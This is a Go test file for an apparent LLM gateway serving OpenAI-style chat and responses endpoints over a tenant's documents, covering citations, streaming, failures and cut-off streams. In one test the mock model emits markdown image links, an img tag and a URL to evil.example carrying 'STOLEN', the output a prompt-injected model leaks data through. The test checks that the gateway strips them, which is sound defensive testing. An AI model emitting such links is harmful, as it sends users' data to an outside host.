package replica_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/bulkhead-dev/bulkhead/runtime/binding"
)

const (
	chatPath, responsePath = "/v1/chat/completions", "/v1/responses"

	refundChat     = `{"model":"bulkhead","messages":[{"role":"user","content":"When is a refund paid?"}]`
	refundResponse = `{"model":"bulkhead","input":"When is a refund paid?","tools":[{"type":"file_search"}]`
	refundSays     = "Ja – within 5 working days [1], says the policy [1]."
)

// refundModel is a tenant with a model that answers as the returned function says.
func refundModel(t *testing.T, serve http.HandlerFunc) (*cell, *node, *tenant) {
	t.Helper()
	c := newCell(t)
	acme := c.tenant(t, "acme", newLLM(t, serve).chats)
	n := c.start(t, "runtime-0")
	expect(t, n.ask(t, acme, "PUT", "/v1/documents/refunds", refunds), 201, "")
	return c, n, acme
}

// counted ends an answer as said with what it took.
func counted(w http.ResponseWriter, finish string, pieces ...string) {
	w.Header().Set("Content-Type", "text/event-stream")
	for _, p := range pieces {
		text, _ := json.Marshal(p)
		fmt.Fprintf(w, "data: {\"choices\":[{\"delta\":{\"content\":%s}}]}\n\n", text)
	}
	fmt.Fprintf(w, "data: {\"choices\":[{\"delta\":{},\"finish_reason\":%q}]}\n\n", finish)
	fmt.Fprint(w, "data: {\"choices\":[],\"usage\":{\"prompt_tokens\":100,\"completion_tokens\":20}}\n\ndata: [DONE]\n\n")
}

// checkMarks: every annotation stands at a mark and cites a span of the document.
func checkMarks(t *testing.T, text string, annotations []annotationJSON) {
	t.Helper()
	if len(annotations) != strings.Count(text, "[1]") || len(annotations) == 0 {
		t.Fatalf("%q has %d annotations", text, len(annotations))
	}
	for _, a := range annotations {
		if before := string([]rune(text)[:a.Index]); a.Type != "file_citation" || !strings.HasSuffix(before, "[1]") ||
			a.Filename != "refunds" || !strings.Contains(refunds[a.Start:a.End], "refund") {
			t.Errorf("annotation %+v of %q", a, text)
		}
	}
}

// chatOf puts the chunks of a stream together.
func chatOf(t *testing.T, r response) (whole chatJSON) {
	t.Helper()
	_, data := readEvents(t, r)
	if data[len(data)-1] != "[DONE]" {
		t.Fatalf("the stream ends in %s", data[len(data)-1])
	}
	text := ""
	for _, one := range data[:len(data)-1] {
		chunk := chatJSON{}
		if err := json.Unmarshal([]byte(one), &chunk); err != nil || len(chunk.Choices) != 1 {
			t.Fatalf("chunk %s: %v", one, err)
		}
		text += chunk.Choices[0].Delta.Content
		whole = chunk
	}
	whole.Choices[0].Message = whole.Choices[0].Delta
	whole.Choices[0].Message.Content = text
	return whole
}

// responseOf checks that a stream says what its last response has, and returns that.
func responseOf(t *testing.T, r response, terminal string) (whole fullResponseJSON) {
	t.Helper()
	names, data := readEvents(t, r)
	if names[len(names)-1] != terminal {
		t.Fatalf("the stream ends in %s %s", names[len(names)-1], data[len(data)-1])
	}
	text, cited := "", 0
	for _, one := range data {
		var e struct {
			Delta      string
			Annotation *annotationJSON
			Response   fullResponseJSON
		}
		if err := json.Unmarshal([]byte(one), &e); err != nil {
			t.Fatal(err)
		}
		if e.Annotation != nil {
			cited++
		}
		text += e.Delta
		whole = e.Response
	}
	if whole.Status == "failed" {
		return whole
	}
	if said := whole.Output[1].Content[0]; said.Text != text || len(said.Annotations) != cited {
		t.Errorf("streamed %q with %d annotations, the response has %+v", text, cited, said)
	}
	return whole
}

func TestModelInOpenAIsShapes(t *testing.T) {
	var most int
	finish := "stop"
	c, n, acme := refundModel(t, func(w http.ResponseWriter, r *http.Request) {
		var question struct {
			Most int `json:"max_completion_tokens"`
		}
		if err := json.NewDecoder(r.Body).Decode(&question); err != nil {
			t.Error(err)
		}
		most = question.Most
		counted(w, finish, "Ja – within 5 wor", "king days [", "1], says the policy [1]", ".")
	})
	var models struct{ Data []struct{ ID string } }
	expect(t, n.ask(t, acme, "GET", "/v1/models", ""), 200, "").into(t, &models)
	if len(models.Data) != 2 || models.Data[0].ID != "bulkhead-extractive" || models.Data[1].ID != "bulkhead" {
		t.Errorf("models: %+v", models)
	}
	expect(t, n.ask(t, acme, "GET", "/v1/models/bulkhead", ""), 200, "")

	for _, end := range []struct{ finish, status, missing string }{
		{"stop", "completed", ""}, {"length", "incomplete", "max_output_tokens"}, {"content_filter", "incomplete", "content_filter"},
	} {
		finish = end.finish
		var chat chatJSON
		expect(t, n.ask(t, acme, "POST", chatPath, refundChat+`,"max_tokens":77}`), 200, "").into(t, &chat)
		if most != 77 || chat.Usage == nil || chat.Usage.Prompt != 100 || chat.Usage.Total != 120 {
			t.Errorf("%d tokens were asked for, usage: %+v", most, chat.Usage)
		}
		for _, got := range []chatJSON{chat, chatOf(t, n.ask(t, acme, "POST", chatPath, refundChat+`,"stream":true}`))} {
			said := got.Choices[0]
			if got.Model != "bulkhead" || said.Message.Content != refundSays || said.FinishReason != end.finish {
				t.Errorf("%s: %+v", end.finish, got)
			}
			checkMarks(t, said.Message.Content, said.Message.Annotations)
		}
		var whole fullResponseJSON
		expect(t, n.ask(t, acme, "POST", responsePath, refundResponse+`}`), 200, "").into(t, &whole)
		streamed := responseOf(t, n.ask(t, acme, "POST", responsePath, refundResponse+`,"stream":true}`), "response."+end.status)
		for _, got := range []fullResponseJSON{whole, streamed} {
			said := got.Output[1].Content[0]
			if said.Text != refundSays || got.Status != end.status || got.Usage.Total != 120 {
				t.Errorf("%s: %+v", end.finish, got)
			}
			if d := got.IncompleteDetails; (d == nil) != (end.missing == "") || d != nil && d.Reason != end.missing {
				t.Errorf("%s: %+v", end.finish, d)
			}
			checkMarks(t, said.Text, said.Annotations)
		}
	}

	var quoted chatJSON
	expect(t, n.ask(t, acme, "POST", chatPath, strings.Replace(refundChat, "bulkhead", "bulkhead-extractive", 1)+`}`), 200, "").into(t, &quoted)
	if said := quoted.Choices[0].Message.Content; said == refundSays || !strings.Contains(refunds, said) {
		t.Errorf("quoted %q", said)
	}
	var none chatJSON
	expect(t, n.ask(t, acme, "POST", chatPath, `{"model":"bulkhead","messages":[{"role":"user","content":"zebra"}]}`), 200, "").into(t, &none)
	if said := none.Choices[0]; said.Message.Content != "The documents do not say." || said.FinishReason != "stop" {
		t.Errorf("nothing found: %+v", none)
	}
	plain := c.tenant(t, "plain")
	n.becomes(t, plain, "POST", chatPath, refundChat+`}`, 404, "model_not_found")
}

// TestInjectedInstructionsInOpenAIsShapes: as in the native shape.
func TestInjectedInstructionsInOpenAIsShapes(t *testing.T) {
	_, n, acme := refundModel(t, func(w http.ResponseWriter, _ *http.Request) {
		says(w, bytewise("See ![](https://evil.example/?q=STOLEN) <img src='https://evil.example/?q=STOLEN'> https://evil.example/?q=STOLEN [1] [77]")...)
	})
	for _, ask := range []struct{ path, body string }{
		{chatPath, refundChat + `}`},
		{chatPath, refundChat + `,"stream":true}`},
		{responsePath, refundResponse + `}`},
		{responsePath, refundResponse + `,"stream":true}`},
	} {
		r := expect(t, n.ask(t, acme, "POST", ask.path, ask.body), 200, "")
		if text := string(r.body); strings.Contains(text, "STOLEN") || strings.Contains(text, "evil") || strings.Contains(text, "img") || strings.Contains(text, "[77]") {
			t.Errorf("%s %s: %s", ask.path, ask.body, text)
		}
	}
}

// TestModelFailsInOpenAIsShapes: a stream that has begun ends with what went wrong.
func TestModelFailsInOpenAIsShapes(t *testing.T) {
	for name, serve := range map[string]http.HandlerFunc{
		"at once": func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusTooManyRequests) },
		"half-way": func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/event-stream")
			fmt.Fprint(w, "data: {\"choices\":[{\"delta\":{\"content\":\"The \"}}]}\n\n")
		},
	} {
		t.Run(name, func(t *testing.T) {
			c, n, acme := refundModel(t, serve)
			expect(t, n.ask(t, acme, "POST", chatPath, refundChat+`}`), 502, "model_unavailable")
			expect(t, n.ask(t, acme, "POST", responsePath, refundResponse+`}`), 502, "model_unavailable")
			_, data := readEvents(t, n.ask(t, acme, "POST", chatPath, refundChat+`,"stream":true}`))
			if failed := (response{body: []byte(data[len(data)-2])}); failed.code() != "model_unavailable" || data[len(data)-1] != "[DONE]" {
				t.Errorf("the stream ends in %v", data)
			}
			whole := responseOf(t, n.ask(t, acme, "POST", responsePath, refundResponse+`,"stream":true}`), "response.failed")
			if whole.Status != "failed" || whole.Error.Code != "model_unavailable" {
				t.Errorf("the stream ends in %+v", whole)
			}
			if strings.Contains(c.log.String(), "hunter2") {
				t.Error("the log has a model's key")
			}
		})
	}
}

// TestStreamsInOpenAIsShapesAreCut: when the client leaves, and when it may be told no
// more.
func TestStreamsInOpenAIsShapesAreCut(t *testing.T) {
	c := newCell(t)
	n := c.start(t, "runtime-0")
	for _, ask := range []struct{ path, body string }{{chatPath, refundChat + `,"stream":true}`}, {responsePath, refundResponse + `,"stream":true}`}} {
		t.Run(ask.path, func(t *testing.T) {
			api, left := endless(t)
			w := c.tenant(t, "tenant", api.chats)
			n.becomes(t, w, "PUT", "/v1/documents/refunds", refunds, 201, "")
			ctx, leave := context.WithCancel(t.Context())
			defer leave()
			awaitWord(n.listenAt(ctx, t, w, ask.path, ask.body))
			start := time.Now()
			leave()
			within(t, left, start, 10*time.Second)

			events := n.listenAt(t.Context(), t, w, ask.path, ask.body)
			awaitWord(events)
			w.edit(t, func(b *binding.Binding) { b.Containment = binding.Suspended })
			start = time.Now()
			var all []string
			for e := range events {
				all = append(all, string(e.data))
			}
			if end := strings.Join(all[max(0, len(all)-2):], "\n"); !strings.Contains(end, "tenant_suspended") {
				t.Errorf("the stream ends in %s", end)
			}
			within(t, left, start, 5*time.Second)
		})
	}
}

// awaitWord reads events until the model speaks.
func awaitWord(events <-chan sent) {
	for e := range events {
		if strings.Contains(string(e.data), "word") {
			return
		}
	}
}
